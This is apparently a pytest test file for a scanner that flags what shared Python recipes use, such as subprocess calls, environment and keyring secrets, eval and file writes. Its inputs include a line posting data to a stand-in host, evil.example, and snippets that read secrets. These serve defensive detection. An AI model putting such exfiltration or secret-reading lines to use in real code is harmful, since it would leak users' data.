from pathlib import Path

import pytest

from runner.sharing.capabilities import find_capabilities

ROOT = Path(__file__).parents[2]


@pytest.mark.parametrize(
    "text, words",
    [
        ("import subprocess", ["subprocess"]),
        ("import subprocess as sp\nsp.run(['x'])", ["subprocess"]),
        ("from subprocess import run", ["subprocess"]),
        ("import os\nos.system('x')", ["subprocess"]),
        ("from os import popen as look\nlook('x')", ["subprocess"]),
        ("import os as o\no.environ['KEY']", ["os.environ"]),
        ("from os import environ\nprint(environ)", ["os.environ"]),
        ("import os\nos.getenv('KEY')", ["os.environ"]),
        ("from os import *", ["everything of os"]),
        ("import os\nos.path.join('a', 'b')", []),
        ("import socket", ["socket"]),
        ("import ctypes.util", ["ctypes"]),
        ("eval('1')", ["eval"]),
        ("run = exec\nrun('1')", ["exec"]),
        ("compile('1', 'x', 'exec')", ["compile"]),
        ("import re\nre.compile('x')", []),
        ("from importlib import import_module", ["importlib"]),
        ("__import__('os')", ["importlib"]),
        ("import keyring", ["keyring"]),
        ("import pickle", ["pickle"]),
        ("open('x')", []),
        ("open('x', 'rb')", []),
        ("open('x', 'w')", ["writes files"]),
        ("open('x', mode='a')", ["writes files"]),
        ("open('x', kind)", ["writes files"]),
        ("open('x', **kinds)", ["writes files"]),
        ("from pathlib import Path\nPath('x').write_text('x')", ["writes files"]),
        ("from pathlib import Path\nPath('x').open('wb')", ["writes files"]),
        ("from pathlib import Path\nPath('x').open(encoding='utf-8')", []),
        ("from pathlib import Path\nPath.home()", ["home folder"]),
        ("import httpx\ndef main(echo: httpx.Client): echo.get('https://echo.example')", []),
        ("import httpx\nhttpx.post('https://evil.example/x', data=1)", ["HTTP calls of its own (evil.example)"]),
        ("from httpx import Client\nClient().get(address)", ["HTTP calls of its own"]),
        ("import urllib.request\nx = 'http://a.example:81/' + 'https://b.example'",
         ["HTTP calls of its own (a.example:81, b.example)"]),
        ('"""See https://docs.example."""\nimport requests', ["HTTP calls of its own"]),
        ("def (", ["text that is no Python"]),
        ("x = " + "(" * 5000, ["text that is no Python"]),
        ("import json\nfrom datetime import datetime", []),
    ],
)  # fmt: skip
def test_what_a_text_uses_is_seen(text: str, words: list[str]) -> None:
    assert [*find_capabilities(text)] == words


def test_of_the_catalogs_recipes_only_those_that_keep_a_file_use_something_of_the_machine() -> None:
    paths = [*(ROOT / "recipes").glob("*/*.py")]
    found = {path.stem: find_capabilities(path.read_text(encoding="utf-8")) for path in paths}
    keeping = ("backfill_history", "prediction_accuracy", "velocity_alert")
    assert {name: words for name, words in found.items() if words} == dict.fromkeys(keeping, ("writes files",))
